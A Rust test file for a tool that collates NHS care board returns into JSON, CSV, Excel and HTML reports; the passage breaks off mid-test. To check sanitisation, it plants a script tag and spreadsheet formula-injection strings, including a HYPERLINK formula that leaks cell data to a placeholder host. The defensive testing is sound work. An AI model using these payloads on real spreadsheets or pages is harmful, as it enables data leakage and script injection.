//! `iacmh collate` and `iacmh compare`, run as a regional analyst would; the workbook is read
//! back with Python's openpyxl, independently of the code that wrote it.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{Value, json};

fn iacmh(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_iacmh")).args(args).output().expect("run iacmh")
}

/// The Python with openpyxl: `IACMH_PYTHON` (`./dev` sets it to its virtual environment), else
/// the workspace's `.venv` when there is one, else `python3` on the PATH.
fn python() -> PathBuf {
    if let Some(python) = std::env::var_os("IACMH_PYTHON") {
        return python.into();
    }
    let venv = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../.venv/bin/python");
    if venv.exists() { venv } else { "python3".into() }
}

fn example() -> Value {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../review/tests/fixtures/example-complete.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("iacmh-collate-test-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("returns/more")).unwrap();
    dir
}

/// A folder of returns for three ICBs (one given twice), a hostile comment, and two bad files.
fn region(dir: &Path) -> PathBuf {
    let returns = dir.join("returns");
    let write =
        |name: &str, v: &Value| std::fs::write(returns.join(name), serde_json::to_string_pretty(v).unwrap()).unwrap();
    for (file, icb, region, updated, assured, dna) in [
        ("devon.json", "NHS Devon Integrated Care Board", "South West", "2024-09-30T10:00:00Z", false, true),
        ("more/devon-draft.json", "NHS Devon Integrated Care Board", "South West", "2024-09-01T10:00:00Z", true, false),
        (
            "cornwall.json",
            "NHS Cornwall and the Isles of Scilly Integrated Care Board",
            "South West",
            "2024-09-29T10:00:00Z",
            true,
            false,
        ),
        ("dorset.json", "NHS Dorset Integrated Care Board", "South West", "2024-09-28T10:00:00Z", false, false),
    ] {
        let mut v = example();
        v["scope"]["icb"] = json!(icb);
        v["scope"]["region"] = json!(region);
        v["outcome"]["review"]["icb_name"] = json!(icb);
        v["outcome"]["review"]["region"] = json!(region);
        v["meta"]["updated"] = json!(updated);
        v["outcome"]["assured"] = json!(assured);
        v["outcome"]["provision"]["dna_used_as_discharge_reason"] = json!(dna);
        if file == "dorset.json" {
            v["maturity"]["answers"]["1.01"]["comment"] = json!("=HYPERLINK(\"http://x\",\"click\")");
            v["outcome"]["next_steps"] = json!("<script>alert(1)</script>");
        }
        write(file, &v);
    }
    std::fs::write(returns.join("notes.json"), "these are notes").unwrap();
    std::fs::write(returns.join("more/empty.json"), "").unwrap();
    std::fs::write(returns.join("readme.txt"), "not a return and not .json: not read").unwrap();
    returns
}

#[test]
fn collate_to_json_lists_every_file_and_keeps_the_latest_duplicate() {
    let dir = scratch("json");
    let returns = region(&dir);
    let out = dir.join("report.json");
    let o = iacmh(&["collate", returns.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let stdout = String::from_utf8_lossy(&o.stdout);
    // The crate's sentence, its plurals right, then the files written and the flags.
    assert!(stdout.starts_with("3 returns collated; 2 files could not be read; 1 duplicate left out."), "{stdout}");
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(stderr.contains("notes.json: left out: the file is not valid JSON"), "{stderr}");
    assert!(stderr.contains("empty.json: left out: the file is empty"), "{stderr}");
    let v: Value = serde_json::from_str(&std::fs::read_to_string(out).unwrap()).unwrap();
    assert_eq!(v["returns"].as_array().unwrap().len(), 3);
    let flags = v["flags"].as_array().unwrap().len();
    assert!(stdout.contains(&format!("report.json; {flags} red flag")), "{stdout}");
    assert_eq!(v["unreadable"].as_array().unwrap().len(), 2);
    assert!(v["duplicates"][0]["kept"].as_str().unwrap().ends_with("devon.json"));
    assert!(v["duplicates"][0]["dropped"].as_str().unwrap().ends_with("devon-draft.json"));
    let dna = v["provision"].as_array().unwrap().iter().find(|p| p["key"] == "dna_used_as_discharge_reason").unwrap();
    assert_eq!((dna["yes"].as_u64(), dna["no"].as_u64()), (Some(1), Some(2)));
    let flags: Vec<&str> = v["flags"].as_array().unwrap().iter().map(|f| f["kind"].as_str().unwrap()).collect();
    assert_eq!(flags.iter().filter(|k| **k == "dna_used_for_discharge").count(), 1);
    assert_eq!(flags.iter().filter(|k| **k == "not_assured").count(), 2);
}

#[test]
fn collate_to_csv_neutralises_formulas_and_writes_a_long_file() {
    let dir = scratch("csv");
    let returns = region(&dir);
    let out = dir.join("region.csv");
    assert_eq!(iacmh(&["collate", returns.to_str().unwrap(), "--out", out.to_str().unwrap()]).status.code(), Some(0));
    let wide = std::fs::read_to_string(&out).unwrap();
    assert_eq!(wide.lines().count(), 1 + 3);
    // A byte-order mark, so that Excel (UK) reads UTF-8.
    assert!(wide.starts_with("\u{FEFF}file,icb_code,icb,region,level,"));
    let long = std::fs::read_to_string(dir.join("region-questions.csv")).unwrap();
    assert_eq!(long.lines().count(), 1 + 3 * 161);
    assert!(long.contains("\"'=HYPERLINK(\"\"http://x\"\",\"\"click\"\")\""), "the formula is quoted and neutralised");
    assert!(!long.contains(",=HYPERLINK"));

    // Read back by Python's csv: accents intact, the formula inert.
    let script = r#"
import csv, json, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    rows = list(csv.DictReader(f))
print(json.dumps({"n": len(rows), "comments": sorted({r["comment"] for r in rows if r["comment"]})}))
"#;
    let o = Command::new(python())
        .args(["-c", script, dir.join("region-questions.csv").to_str().unwrap()])
        .output()
        .expect("run python");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["n"], 3 * 161);
    let comments: Vec<&str> = v["comments"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(comments.contains(&"'=HYPERLINK(\"http://x\",\"click\")"), "{comments:?}");
    assert!(comments.iter().all(|c| !c.starts_with('=')), "{comments:?}");
}

/// 40 of the register's 42 ICBs (two have not returned), a team return, a duplicate, and text
/// that a spreadsheet could mangle: accents, bullet lists, a formula, a carriage return, an
/// `_x0041_` that looks like Excel's escape, and a comment longer than a cell holds.
fn forty_of_42(dir: &Path) -> PathBuf {
    use iacmh_review::{Answer, Rating, ScopeLevel, example};
    let returns = dir.join("returns");
    let q = |id: &str| id.parse::<iacmh_review::QuestionId>().unwrap();
    let answer = |comment: &str| Answer { rating: Rating::NoActionInHand, comment: Some(comment.to_owned()) };
    // Seeds 0 to 41 are the 42 ICBs in the register's order; 5 and 17 have not returned.
    for seed in (0..42).filter(|s| ![5, 17].contains(s)) {
        let mut r = example::generated(seed);
        if seed == 0 {
            r.maturity.answers.insert(q("1.01"), answer(ACCENTS));
            r.maturity.answers.insert(q("1.02"), answer(ESCAPES));
            r.maturity.answers.insert(q("1.03"), answer(&"x".repeat(40_000)));
            r.maturity.answers.insert(q("1.04"), answer("=HYPERLINK(\"http://x\",\"click\")"));
            r.maturity.findings[0].action = ACCENTS.to_owned();
            r.maturity.findings[0].due = Some("2020-01-31".to_owned());
            r.maturity.findings[0].completed = false;
        }
        std::fs::write(returns.join(format!("icb-{seed:02}.json")), r.to_json()).unwrap();
    }
    // An older copy of one ICB's return: left out as a duplicate.
    let mut older = example::generated(1);
    older.meta.updated = Some("2024-08-01T09:00:00Z".to_owned());
    std::fs::write(returns.join("more/icb-01-older.json"), older.to_json()).unwrap();
    let team = example::generated(42 + 3);
    assert_eq!(team.scope.level, ScopeLevel::Team);
    std::fs::write(returns.join("team-45.json"), team.to_json()).unwrap();
    std::fs::write(returns.join("notes.json"), "these are notes").unwrap();
    returns
}

const ACCENTS: &str = "Siân’s team – £1.2m agreed:\n- item one\n- item two\n• crèche, naïve café";
const ESCAPES: &str = "Line one\r\nline two _x0041_ end\rlast";

#[test]
fn collate_to_xlsx_reads_back_in_openpyxl() {
    let dir = scratch("xlsx");
    let returns = forty_of_42(&dir);
    let out = dir.join("region.xlsx");
    let o = iacmh(&["collate", returns.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(stdout.contains("41 returns collated; 1 file could not be read; 1 duplicate left out."), "{stdout}");
    assert!(stdout.contains("Of them, 1 team or provider return is shown apart"), "{stdout}");
    let csv = dir.join("region.csv");
    let o = iacmh(&["collate", returns.to_str().unwrap(), "--out", csv.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let script = r#"
import csv, datetime, json, sys, zipfile, openpyxl
path, csv_path, accents, escapes = sys.argv[1:5]
z = zipfile.ZipFile(path)
assert z.testzip() is None, "a zip entry fails its CRC"
sheets = [i for i in z.infolist() if i.filename.startswith("xl/worksheets/sheet")]
assert all(i.compress_type == zipfile.ZIP_DEFLATED for i in sheets), "compressed"
assert any(n.startswith("xl/charts/chart") for n in z.namelist()), "a chart"
wb = openpyxl.load_workbook(path)
assert wb.sheetnames == ["Summary", "Domains by region", "Returns", "Questions", "Barriers", "Flags", "Actions",
    "Not returned", "Team returns", "Team questions", "Progress", "Progress by region", "Files", "About"], wb.sheetnames

def table(name):
    ws = wb[name]
    rows = list(ws.iter_rows(values_only=True))
    return ws, [dict(zip(rows[0], r)) for r in rows[1:]]

for ws in wb:
    assert ws.freeze_panes == "A2", (ws.title, ws.freeze_panes)
    assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
    assert all(c.font.b for c in ws[1]), ws.title + ": a bold header"
    widths = [d.width for d in ws.column_dimensions.values()]
    assert len(widths) >= 3 and all(w and w > 5 for w in widths), (ws.title, widths)
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", ("a formula", ws.title, c.coordinate)
            assert not (isinstance(c.value, str) and c.value.startswith("'")), ("an apostrophe", ws.title, c.coordinate, c.value)

ws, summary = table("Summary")
england = summary[-1]
assert england["region"] == "England"
assert (england["icbs_expected"], england["received"], england["team_returns"]) == (42, 40, 1), england
assert england["valid"] == 39 and england["draft"] + england["final"] == 40, england
assert isinstance(england["d1_mean_score"], float) and 0 <= england["d1_mean_score"] <= 100
header = [c.value for c in ws[1]]
assert ws.cell(row=9, column=header.index("key_worker_continuity_yes_share") + 1).number_format == "0%"
assert ws.cell(row=9, column=header.index("d1_mean_score") + 1).number_format == "0.0"
assert sum(r["received"] for r in summary[:-1]) == 40

ws, returns = table("Returns")
assert len(returns) == 40
first = [r for r in returns if r["file"].endswith("icb-00.json")][0]
assert isinstance(first["updated"], datetime.datetime), first["updated"]
assert isinstance(first["overall_score"], float) and first["questions_answered"] == 161
assert first["valid"] == "No" and first["errors"] >= 1, "the 40,000 characters are too long"
assert first["operational_lead_email"].endswith("@example.nhs.uk")
assert all(r["icb_code"] and r["region"] and r["level"] == "ICB" for r in returns)
header = [c.value for c in ws[1]]
assert ws.cell(row=2, column=header.index("completeness") + 1).number_format == "0%"
assert ws.cell(row=2, column=header.index("updated") + 1).is_date
assert ws.column_dimensions["C"].width >= 40, "ICB names fit"
assert len(ws.conditional_formatting) >= 15, "a heatmap on the score columns"

_, questions = table("Questions")
assert len(questions) == 40 * 161
mine = {q["question"]: q for q in questions if q["file"].endswith("icb-00.json")}
assert mine["1.01"]["comment"] == accents, repr(mine["1.01"]["comment"])
# The workbook escapes text as ECMA-376 says and Excel writes it: a CR as _x000D_, and text that
# looks like an escape with _x005F_ before it, so Excel and LibreOffice read both back exactly.
# openpyxl undoes _x005F_ (so "_x0041_" reads back exactly) but leaves _x000D_ as it is.
assert mine["1.02"]["comment"] == escapes.replace("\r", "_x000D_"), repr(mine["1.02"]["comment"])
# Decoded as the standard says, from the XML itself: exactly the text of the return.
import re, xml.etree.ElementTree as ET
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
sst = ET.fromstring(z.read("xl/sharedStrings.xml"))
decode = lambda t: re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), t)
strings = {decode("".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))) for si in sst.findall("m:si", ns)}
assert escapes in strings and accents in strings
assert mine["1.04"]["comment"] == '=HYPERLINK("http://x","click")'
cut = mine["1.03"]["comment"]
assert len(cut) <= 32767 and cut.startswith("x" * 30000) and "[CUT" in cut, (len(cut), cut[-150:])
q = mine["1.01"]
assert (q["rating"], q["points"], q["domain"]) == ("No, but action in hand", 1, 1), q
assert isinstance(q["points"], (int, float)) and isinstance(q["domain"], (int, float))
assert q["category"] in ("Essential", "Enhancer", "Desirable") and q["question_text"] and q["domain_title"]
assert q["icb_code"] and q["region"]

_, not_returned = table("Not returned")
assert len(not_returned) == 2, not_returned

_, files = table("Files")
outcomes = [f["outcome"] for f in files]
assert outcomes.count("Collated") == 41 and outcomes.count("Duplicate") == 1 and outcomes.count("Unreadable") == 1, outcomes
dup = [f for f in files if f["outcome"] == "Duplicate"][0]
assert dup["file"].endswith("icb-01-older.json") and dup["kept"].endswith("icb-01.json") and "older" in dup["detail"], dup
cuts = [f for f in files if f["outcome"] == "Text cut"]
assert len(cuts) == 1 and "Questions" in cuts[0]["detail"] and "comment" in cuts[0]["detail"] and "40000" in cuts[0]["detail"], cuts
assert cuts[0]["file"].endswith("icb-00.json")

_, flags = table("Flags")
kinds = [f["flag"] for f in flags if f["level"] == "ICB"]
assert [f["level"] for f in flags] == sorted((f["level"] for f in flags), key=lambda l: l != "ICB"), "ICB-level first"
firsts = [k for k in kinds if k in ("DNAs used as a reason for discharge", "Not assured")]
assert kinds[:len(firsts)] == firsts, "DNA and not assured first"
ess = [f for f in flags if f["flag"] == "Essentials not met"][0]
assert ess["domain"] and ess["domain_title"] and ess["questions"], ess

ws, actions = table("Actions")
act = [a for a in actions if a["action"] == accents][0]
assert act["due"] == datetime.datetime(2020, 1, 31) and act["overdue"] == "Yes" and act["completed"] == "No", act
assert all(isinstance(a["due"], datetime.datetime) for a in actions if a["due"])

_, barriers = table("Barriers")
assert len(barriers) == 40 and all(b["workforce"] in ("Yes", "No") for b in barriers)
_, team = table("Team returns")
assert len(team) == 1 and team[0]["level"] == "Team"
_, team_q = table("Team questions")
assert len(team_q) == 161
_, about = table("About")
assert any(a["column"] == "index edition" for a in about)
assert any(a["sheet"] == "Returns" and a["column"] == "icb_code" for a in about)

# The CSV files: the same columns as the sheets, with a byte-order mark, and accents intact.
for sheet, suffix in [("Returns", ""), ("Questions", "-questions"), ("Actions", "-actions"), ("Summary", "-summary"), ("Not returned", "-not-returned")]:
    p = csv_path.replace(".csv", suffix + ".csv")
    raw = open(p, "rb").read()
    assert raw.startswith(b"\xef\xbb\xbf"), p
    with open(p, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == [c.value for c in wb[sheet][1]], (sheet, rows[0])
    assert len(rows) - 1 == wb[sheet].max_row - 1, sheet
with open(csv_path.replace(".csv", "-questions.csv"), encoding="utf-8-sig", newline="") as f:
    comments = {r["comment"] for r in csv.DictReader(f)}
assert accents in comments
assert "'=HYPERLINK(\"http://x\",\"click\")" in comments, "neutralised in CSV only"
print("ok")
"#;
    let o = Command::new(python())
        .args(["-c", script, out.to_str().unwrap(), csv.to_str().unwrap(), ACCENTS, ESCAPES])
        .output()
        .expect("run python");
    assert!(o.status.success(), "{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "ok");
}

#[test]
fn collate_to_html_is_self_contained_and_escaped() {
    let dir = scratch("html");
    let returns = region(&dir);
    let out = dir.join("region.html");
    assert_eq!(iacmh(&["collate", returns.to_str().unwrap(), "--out", out.to_str().unwrap()]).status.code(), Some(0));
    let html = std::fs::read_to_string(&out).unwrap();
    assert!(html.contains("<table class=\"iacmh-r-heat\">"));
    assert!(html.contains("NHS Cornwall and the Isles of Scilly Integrated Care Board"));
    assert!(html.contains("DNAs are used as a reason for discharge"));
    assert!(html.contains("notes.json"));
    // Domain names, not numbers; the South West's group, with who has not returned.
    assert!(html.contains("<span>3. Workforce</span>"), "domain names in the heatmap's head");
    assert!(html.contains("South West<span class=\"iacmh-r-meta\">ICBs returned: 3 of 7 (43%); not returned: "));
    // The file names the command that rolls teams up, and has no button to do it.
    assert!(!html.contains("<button"));
    assert!(!html.contains("<script"), "no script at all, escaped or not");
    assert!(html.contains("&lt;script&gt;") || !html.contains("alert(1)"), "text from a return is escaped");
    assert!(
        !html.contains("http://") && !html.contains("https://") && !html.contains(" src="),
        "nothing loaded from elsewhere"
    );
}

/// Devon's and Dorset's ICB-level returns in two rounds, and a team of Devon's in the later.
fn two_rounds(dir: &Path) -> PathBuf {
    let returns = dir.join("returns");
    for (file, icb, round, rating, assured, dna, completed) in [
        ("devon-2023.json", "NHS Devon Integrated Care Board", "2023-24", "no_needs_action", false, true, false),
        ("devon-2024.json", "NHS Devon Integrated Care Board", "2024-25", "yes_working_well", true, false, true),
        ("dorset-2023.json", "NHS Dorset Integrated Care Board", "2023-24", "yes_working_well", true, false, false),
        ("more/dorset-2024.json", "NHS Dorset Integrated Care Board", "2024-25", "no_needs_action", true, false, false),
    ] {
        let mut v = example();
        v["scope"]["icb"] = json!(icb);
        v["scope"]["region"] = json!("South West");
        v["outcome"]["review"]["icb_name"] = json!(icb);
        v["round"] = json!(round);
        v["maturity"]["answers"]["3.08"] = json!({"rating": rating});
        v["outcome"]["assured"] = json!(assured);
        v["outcome"]["provision"]["dna_used_as_discharge_reason"] = json!(dna);
        v["maturity"]["findings"][0]["completed"] = json!(completed);
        v["maturity"]["findings"][0]["due"] = json!("2020-01-31");
        std::fs::write(returns.join(file), v.to_string()).unwrap();
    }
    let mut team = example();
    team["scope"] = json!({"level": "team", "icb": "NHS Devon Integrated Care Board", "region": "South West", "organisation": "Devon Partnership", "team": "North"});
    team["round"] = json!("2024-25");
    team["outcome"]["provision"]["dna_used_as_discharge_reason"] = json!(true);
    std::fs::write(returns.join("devon-north.json"), team.to_string()).unwrap();
    returns
}

#[test]
fn two_rounds_show_progress_in_the_workbook_csv_and_html() {
    let dir = scratch("rounds");
    let returns = two_rounds(&dir);
    let (xlsx, csv, html) = (dir.join("r.xlsx"), dir.join("r.csv"), dir.join("r.html"));
    for out in [&xlsx, &csv, &html] {
        let o = iacmh(&["collate", returns.to_str().unwrap(), "--out", out.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    }
    let script = r#"
import csv, json, sys, openpyxl
xlsx, csv_path = sys.argv[1:3]
wb = openpyxl.load_workbook(xlsx)
def table(name):
    rows = list(wb[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], r)) for r in rows[1:]]
progress = {p["icb"]: p for p in table("Progress")}
devon, dorset = progress["NHS Devon Integrated Care Board"], progress["NHS Dorset Integrated Care Board"]
assert len(progress) == 2, progress.keys()
assert (devon["from_round"], devon["to_round"], devon["level"], devon["region"]) == ("2023-24", "2024-25", "ICB", "South West"), devon
assert devon["icb_code"] and isinstance(devon["score_change"], float) and devon["score_change"] > 0, devon
assert abs(devon["score_after"] - devon["score_before"] - devon["score_change"]) < 0.11, devon
assert devon["d3_change"] > 0 and dorset["d3_change"] < 0 and dorset["score_change"] < 0, (devon, dorset)
assert (devon["questions_improved"], devon["questions_worsened"]) == (1, 0), devon
assert (devon["actions_completed"], dorset["actions_completed"]) == (1, 0), (devon, dorset)
assert dorset["actions_overdue"] >= 1 and dorset["actions_overdue"] <= dorset["actions_open"], dorset
assert (devon["assured_before"], devon["assured_after"]) == ("No", "Yes"), devon
assert "DNAs" in devon["provision_changes"] and "Yes → No" in devon["provision_changes"], devon["provision_changes"]
assert dorset["provision_changes"] is None, dorset
header = [c.value for c in wb["Progress"][1]]
assert wb["Progress"].cell(row=2, column=header.index("score_change") + 1).number_format == "0.0"
assert wb["Progress"].freeze_panes == "A2"
regions = {(r["region"], r["to_round"]): r for r in table("Progress by region")}
for name in ("South West", "England"):
    r = regions[(name, "2024-25")]
    assert (r["icbs"], r["improved"], r["worsened"], r["became_assured"], r["no_longer_assured"]) == (2, 1, 1, 1, 0), r
    assert r["actions_completed"] == 1 and r["provision_changes"] == 1, r
assert len(regions) == 2, regions.keys()
# The CSV: the same columns as the sheet, a byte-order mark, the arrow intact.
for suffix, sheet in (("-progress.csv", "Progress"), ("-progress-by-region.csv", "Progress by region")):
    path = csv_path.replace(".csv", suffix)
    assert open(path, "rb").read().startswith(b"\xef\xbb\xbf"), path
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == [c.value for c in wb[sheet][1]], rows[0]
    assert len(rows) - 1 == wb[sheet].max_row - 1
with open(csv_path.replace(".csv", "-progress.csv"), encoding="utf-8-sig", newline="") as f:
    devon_csv = [r for r in csv.DictReader(f) if r["icb"].startswith("NHS Devon")][0]
assert devon_csv["assured_after"] == "Yes" and "Yes → No" in devon_csv["provision_changes"], devon_csv
print("ok")
"#;
    let o = Command::new(python())
        .args(["-c", script, xlsx.to_str().unwrap(), csv.to_str().unwrap()])
        .output()
        .expect("run python");
    assert!(o.status.success(), "{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));

    let html = std::fs::read_to_string(&html).unwrap();
    assert!(html.contains("<h2>Progress between rounds</h2>"), "a section on progress");
    assert!(html.contains("Assured: No → Yes"), "the assurance change");
    // The team's DNA answer is its own: the national share is of the two ICBs' latest returns.
    assert!(html.contains("<h2>Team and provider returns</h2>"));
    let dna = html.find("Are DNAs ever used as a reason for discharge").unwrap();
    assert!(
        html[dna..].contains("Yes is the answer of concern</span></th><td>0 of 2 (0%)</td>"),
        "{}",
        &html[dna..dna + 400]
    );
}

#[test]
fn collate_refuses_an_unknown_output_format() {
    let dir = scratch("bad-out");
    let o = iacmh(&["collate", dir.to_str().unwrap(), "--out", dir.join("report.pdf").to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains(".csv, .xlsx, .json or .html"));
}

#[test]
fn compare_reports_changes_between_rounds() {
    let dir = scratch("compare");
    let mut old = example();
    let mut new = example();
    old["maturity"]["answers"]["3.08"] = json!({"rating": "no_needs_action"});
    new["maturity"]["answers"]["3.08"] = json!({"rating": "yes_working_well"});
    new["maturity"]["answers"]["4.01"] = json!({"rating": "no_needs_action"});
    old["maturity"]["answers"]["4.01"] = json!({"rating": "yes_working_well"});
    new["maturity"]["findings"][0]["completed"] = json!(true);
    old["maturity"]["findings"][0]["completed"] = json!(false);
    let (a, b) = (dir.join("sept-2024.json"), dir.join("2025.json"));
    std::fs::write(&a, old.to_string()).unwrap();
    std::fs::write(&b, new.to_string()).unwrap();
    let o = iacmh(&["compare", "--format", "json", a.to_str().unwrap(), b.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["same_scope"], true);
    assert_eq!(v["improved"][0]["id"], "3.08");
    assert_eq!(v["worsened"][0]["id"], "4.01");
    assert_eq!(v["actions_completed"].as_array().unwrap().len(), 1);
    let text =
        String::from_utf8_lossy(&iacmh(&["compare", a.to_str().unwrap(), b.to_str().unwrap()]).stdout).into_owned();
    assert!(text.contains("Improved: 1") && text.contains("3.08 No, action is needed -> Yes, working well"), "{text}");
    assert_eq!(
        iacmh(&["compare", a.to_str().unwrap(), dir.join("missing.json").to_str().unwrap()]).status.code(),
        Some(2)
    );
}

#[test]
fn roll_up_writes_an_icb_draft_from_team_returns() {
    let dir = scratch("roll-up");
    let teams = dir.join("returns");
    for (name, rating, comment) in
        [("North", "yes_working_well", "Written down"), ("South", "no_action_in_hand", "Drafting")]
    {
        let mut v = example();
        v["scope"] = json!({"level": "team", "icb": "NHS Devon Integrated Care Board", "region": "South West", "organisation": "Devon Partnership", "team": name});
        v["maturity"]["answers"]["3.08"] = json!({"rating": rating, "comment": comment});
        std::fs::write(teams.join(format!("{name}.json")), v.to_string()).unwrap();
    }
    let out = dir.join("devon-draft.json");
    let o = iacmh(&["roll-up", "--icb", "QJK", teams.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("Rolled up 2 team and provider returns"));
    let draft: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(draft["scope"]["level"], "icb");
    assert_eq!(draft["scope"]["icb"], "NHS Devon Integrated Care Board");
    let a = &draft["maturity"]["answers"]["3.08"];
    assert_eq!(a["rating"], "no_action_in_hand", "the lowest rating");
    assert_eq!(
        a["comment"],
        "Devon: Devon Partnership: North: Written down\nDevon: Devon Partnership: South: Drafting"
    );
    // It is a return the form and the CLI read.
    assert_eq!(iacmh(&["score", out.to_str().unwrap()]).status.code(), Some(0));
    assert_eq!(
        iacmh(&["roll-up", "--icb", "Wessex", teams.to_str().unwrap(), "--out", out.to_str().unwrap()]).status.code(),
        Some(2)
    );
    assert_eq!(
        iacmh(&[
            "roll-up",
            "--icb",
            "Cornwall and the Isles of Scilly",
            teams.to_str().unwrap(),
            "--out",
            out.to_str().unwrap()
        ])
        .status
        .code(),
        Some(1)
    );
}

/// Runs `iacmh` and fails the test, rather than hanging it, if it takes more than 20 s.
#[cfg(unix)]
fn iacmh_within_20s(args: &[&str]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_iacmh"))
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run iacmh");
    let started = std::time::Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if started.elapsed() > std::time::Duration::from_secs(20) {
            let _ = child.kill();
            panic!("iacmh {args:?} was still running after 20 s");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().expect("output")
}

#[cfg(unix)]
#[test]
fn folders_with_link_loops_fifos_and_repeated_files_are_each_read_once() {
    use std::os::unix::fs::symlink;
    let dir = scratch("walk");
    let returns = dir.join("returns");
    std::fs::write(returns.join("devon.json"), serde_json::to_string_pretty(&example()).unwrap()).unwrap();
    // Two links back up the tree (a loop each), a link to a file already listed, a broken link.
    symlink(&returns, returns.join("more/up")).unwrap();
    symlink(".", returns.join("here")).unwrap();
    symlink(returns.join("devon.json"), returns.join("more/devon-again.json")).unwrap();
    symlink(returns.join("gone.json"), returns.join("broken.json")).unwrap();
    // A named pipe that nothing writes to: reading it would wait for ever.
    let fifo = returns.join("pipe.json");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());

    let out = dir.join("r.json");
    let o = iacmh_within_20s(&["collate", returns.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{stderr}");
    let c: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(c["returns"].as_array().unwrap().len(), 1, "devon once: {stderr}");
    assert_eq!(c["duplicates"].as_array().unwrap().len(), 0, "a link is not a duplicate: {stderr}");
    assert!(stderr.contains("a link to a folder already listed (a loop)"), "{stderr}");
    assert!(stderr.contains("devon-again.json: the same file as"), "{stderr}");
    assert!(stderr.contains("broken.json: cannot be read"), "{stderr}");
    let unreadable = c["unreadable"].as_array().unwrap();
    assert_eq!(unreadable.len(), 1, "{unreadable:?}");
    assert!(unreadable[0]["message"].as_str().unwrap().contains("a named pipe (FIFO), not a regular file"));

    // validate refuses the FIFO at once too.
    let o = iacmh_within_20s(&["validate", fifo.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stdout).contains("not a regular file"));
}

#[test]
fn a_missing_path_or_nothing_to_collate_is_a_failure() {
    let dir = scratch("nothing");
    let out = dir.join("r.json");
    let o = iacmh(&["collate", dir.join("no-such-folder").to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("no-such-folder"), "{}", String::from_utf8_lossy(&o.stderr));
    let empty = dir.join("returns/more");
    let o = iacmh(&["collate", empty.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("nothing could be collated"));
}

/// Every way a text can hide a formula from a check of its first character (leading NUL, tab,
/// CR, LF, vertical tab, form feed, no-break and ideographic spaces, plain spaces, full-width
/// signs) goes through `iacmh collate` to CSV: read back with Python's csv, each is neutralised
/// and otherwise exact, and no NUL is written. Where LibreOffice is installed (`soffice`; not in
/// CI), the CSV is also opened in it, with and without its "trim spaces" import option, and the
/// converted sheets hold no formula (a control file with a bare `=1+1` shows that they would).
#[test]
fn every_hidden_formula_variant_is_inert_in_csv_and_in_libreoffice() {
    let variants = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\u{0}=1+1",
        "\u{0}\u{0}=HYPERLINK(\"http://x/?leak=\"&A2,\"details\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{b}=1+1",
        "\u{c}=1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        " =1+1",
        "   +1+1",
        "\u{0} \t=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1,1)",
        "- a bullet list, as NHS papers write them",
    ];
    let dir = scratch("variants");
    let mut v = example();
